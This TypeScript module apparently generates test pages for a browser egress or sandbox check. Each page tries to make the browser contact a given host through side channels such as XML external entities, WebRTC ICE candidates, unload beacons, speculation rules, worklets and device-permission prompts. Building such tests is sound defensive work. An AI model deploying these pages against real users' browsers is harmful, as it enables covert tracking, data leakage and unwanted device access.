import type { HostilePage } from './hostile-page.ts';

/** Pages that make the browser itself reach `host`: for reports, models, payments, logins, devices, documents. */
export function platformPagesFor(host: string): readonly HostilePage[] {
  const https = `https://${host}`;
  const http = `http://${host}`;
  return [
    {
      name: `header fields that name ${host}`,
      html: `<img src=/own attributionsrc="${https}/source"><a href="${https}/next">x</a>`,
      headers: [
        ['refresh', `9;url=${https}/refreshed`],
        ['speculation-rules', `"${https}/rules.json"`],
        ['secure-session-registration', `(ES256 RS256);path="${https}/session";challenge="x"`],
        ['sec-session-registration', `(ES256);path="${https}/session"`],
        ['attribution-reporting-register-source', `{"destination":"${https}","event_report_window":"1"}`],
        ['observe-browsing-topics', '?1'],
        ['set-login', 'logged-in'],
        ['use-as-dictionary', 'match="/*"'],
        ['accept-ch', 'sec-ch-ua-platform-version, dpr'],
        ['critical-ch', 'sec-ch-ua-platform-version'],
        ['sourcemap', `${https}/map.json`],
        ['cross-origin-opener-policy-report-only', 'same-origin; report-to="g"'],
        ['document-policy-report-only', 'document-write=?0;report-to=g'],
        ['reporting-endpoints', `g="${https}/reports"`],
        ['x-permitted-cross-domain-policies', 'all'],
      ],
    },
    {
      name: `speculation about ${host}`,
      html: `<a href="${https}/a">a</a><a href="${http}/b" target=_blank>b</a><script type=speculationrules>${JSON.stringify(
        {
          prefetch: [
            { source: 'document', where: { href_matches: `${https}/*` }, eagerness: 'immediate' },
            { urls: [`${https}/private`], requires: ['anonymous-client-ip-when-cross-origin'] },
          ],
          prerender: [{ urls: [`${https}/c`], target_hint: '_blank', eagerness: 'immediate' }],
        },
      )}</script>`,
    },
    {
      name: `XML with entities and style sheets of ${host}`,
      type: 'application/xml',
      html: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${https}/x.xsl"?><?xml-stylesheet href="${http}/x.css"?>
        <!DOCTYPE x PUBLIC "-//X//DTD X//EN" "${https}/x.dtd" [<!ENTITY e SYSTEM "${http}/e"><!ENTITY % p SYSTEM "${https}/p"> %p;]>
        <x xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude">&e;<xi:include href="${http}/i"/><h:script src="${https}/s.js"/></x>`,
    },
    {
      name: `an image document with parts of ${host}`,
      type: 'image/svg+xml',
      html: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${http}/i"/><use xlink:href="${https}/u#x"/>
        <filter id="f"><feImage xlink:href="${https}/f"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${http}/p#g)"/><script xlink:href="${https}/s.js"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${https}/d"/></foreignObject></svg>`,
    },
    { name: `a download of ${host}`, html: `<iframe src="${https}/x.zip"></iframe>`, type: 'application/octet-stream' },
    {
      name: `peers that connect to ${host}`,
      html: script(`
        const [a, b] = [new RTCPeerConnection({ iceTransportPolicy: 'all' }), new RTCPeerConnection()];
        const tell = (to) => ({ candidate }) => { if (candidate) { fetch('/candidate?' + encodeURIComponent(candidate.candidate)); to.addIceCandidate(candidate) } };
        a.onicecandidate = tell(b); b.onicecandidate = tell(a);
        a.createDataChannel('x').onopen = () => fetch('/channel');
        a.addTransceiver('audio');
        (async () => {
          await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription);
          await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription);
          const [, address = '', , port = '3478'] = /^\\[?([^\\]]+?)\\]?(:(\\d+))?$/.exec('${host}') ?? [];
          for (const kind of ['udp', 'tcp']) for (const to of [address, '4a4c4e50-5254-5658-6062-646668707274.local'])
            await a.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + to + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0' }).catch(() => 0);
        })()`),
    },
    {
      name: `peers that gather before they are asked, and are told of addresses by a description, of ${host}`,
      html: script(`
        const quiet = (work) => { try { Promise.resolve(work()).catch(() => 0) } catch {} };
        const iceServers = [{ urls: ['stun:${host}', 'turn:${host}?transport=udp', 'turns:${host}'], username: 'a', credential: 'b' }];
        for (const iceCandidatePoolSize of [1, 10, 255]) quiet(() => {
          const peer = new RTCPeerConnection({ iceCandidatePoolSize, iceServers, bundlePolicy: 'max-compat' });
          peer.setConfiguration({ iceCandidatePoolSize: 3, iceServers, bundlePolicy: 'max-compat' });
          peer.createDataChannel('x');
          return peer.setLocalDescription().then(() => peer.restartIce());
        });
        const candidates = ['1 1 udp 9 192.0.2.7 3478 typ host', '2 1 udp 8 192.0.2.9 53 typ srflx raddr 0.0.0.0 rport 0', '3 1 tcp 7 192.0.2.7 80 typ host tcptype passive', '4 1 udp 6 canary.example 99 typ host'];
        const lines = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 192.0.2.7', ...candidates.map((one) => 'a=candidate:' + one),
          'a=ice-ufrag:abcd', 'a=ice-pwd:abcdefghijklmnopqrstuvwx', 'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':'), 'a=setup:actpass', 'a=mid:0', 'a=sctp-port:5000', ''];
        quiet(async () => { const peer = new RTCPeerConnection(); await peer.setRemoteDescription({ type: 'offer', sdp: lines.join(String.fromCharCode(13, 10)) }); await peer.setLocalDescription() })`),
    },
    {
      name: `what the browser does for pages with ${host}`,
      html: `<button>x</button><video src="${https}/x.m3u8"></video><link rel=manifest href="/own.webmanifest"><link rel=payment-method-manifest href="${https}/pay">${script(`
        const quiet = (work) => { try { Promise.resolve(work()).catch(() => 0) } catch {} };
        const all = () => {
          quiet(() => navigator.credentials.get({ identity: { providers: [{ configURL: '${https}/fedcm.json', clientId: '1' }] }, mediation: 'required' }));
          quiet(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'canary.example', timeout: 500 } }));
          quiet(() => new PaymentRequest([{ supportedMethods: '${https}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show());
          quiet(() => new PresentationRequest(['${https}/present', 'cast:CC1AD845']).start());
          quiet(() => document.querySelector('video').remote.watchAvailability(() => 0));
          quiet(() => navigator.geolocation.getCurrentPosition(() => 0, () => 0, { timeout: 500 }));
          quiet(() => new webkitSpeechRecognition().start());
          quiet(() => speechSynthesis.speak(new SpeechSynthesisUtterance('x')));
          quiet(() => Translator.create({ sourceLanguage: 'en', targetLanguage: 'fr' }));
          quiet(() => LanguageDetector.create());
          quiet(() => LanguageModel.create());
          quiet(() => navigator.requestMediaKeySystemAccess('com.widevine.alpha', [{ initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] }]));
          quiet(() => navigator.registerProtocolHandler('web+x', '${https}/%s'));
          quiet(() => navigator.share({ url: '${https}' }));
          quiet(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true }));
          quiet(() => navigator.mediaDevices.getDisplayMedia());
          quiet(() => Notification.requestPermission().then(() => new Notification('x', { icon: '${https}/icon' })));
          quiet(() => navigator.requestMIDIAccess({ sysex: true }));
          for (const kind of ['usb', 'serial', 'hid']) quiet(() => navigator[kind].requestDevice?.({ filters: [] }) ?? navigator[kind].requestPort());
          quiet(() => navigator.bluetooth.requestDevice({ acceptAllDevices: true }));
          quiet(() => showOpenFilePicker()); quiet(() => showSaveFilePicker()); quiet(() => showDirectoryPicker());
        };
        document.querySelector('button').onclick = all; all()`)}`,
    },
    {
      name: `requests that outlive their page to ${host}`,
      html: `<a id=a href="${https}/left" ping="${https}/ping ${http}/ping">x</a>${script(`
        try { fetchLater('${https}/later', { activateAfter: 0 }) } catch {}
        for (const type of ['pagehide', 'visibilitychange', 'beforeunload', 'unload'])
          addEventListener(type, () => { navigator.sendBeacon('${https}/' + type, 'x'); fetch('${http}/' + type, { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => 0) });
        try { new WebSocketStream('wss://${host}/') } catch {}
        try { new WebTransport('${https}/t', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }) } catch {}
        try { new UDPSocket({ remoteAddress: '${host}', remotePort: 53 }) } catch {}
        setTimeout(() => a.click(), 300)`)}`,
    },
    {
      name: `worklets, fonts and shared storage of ${host}`,
      html: script(`
        const quiet = (work) => { try { Promise.resolve(work()).catch(() => 0) } catch {} };
        quiet(() => CSS.paintWorklet.addModule('${https}/paint.js'));
        quiet(() => new AudioContext().audioWorklet.addModule('${https}/audio.js'));
        quiet(() => sharedStorage.worklet.addModule('${https}/shared.js'));
        quiet(() => sharedStorage.createWorklet('${https}/shared.js'));
        quiet(() => document.browsingTopics());
        quiet(() => navigator.joinAdInterestGroup({ owner: '${https}', name: 'x', updateURL: '${https}/u', biddingLogicURL: '${https}/b.js', ads: [] }, 99));
        quiet(() => navigator.runAdAuction({ seller: '${https}', decisionLogicURL: '${https}/d.js', interestGroupBuyers: ['${https}'] }));
        quiet(() => new FontFace('f', 'url(${https}/f.woff2)').load());
        quiet(() => navigator.serviceWorker.register('/sw.js', { type: 'module' }));
        quiet(() => new Worker('data:text/javascript,' + encodeURIComponent("importScripts('${https}/i.js')")));
        quiet(() => new SharedWorker('data:text/javascript,' + encodeURIComponent("fetch('${https}/sw')")));
        quiet(() => import('${https}/module.js', { with: { type: 'json' } }));
        document.write('<fencedframe src="${https}/fenced"></fencedframe><portal src="${https}/portal"></portal><script type=importmap>{"imports":{"x":"${https}/x.js"}}<\\/script><script type=webbundle>{"source":"${https}/x.wbn","resources":["${https}/y"]}<\\/script>')`),
    },
  ];
}

const script = (code: string): string => `<!doctype html><body><script>${code}</script>`;
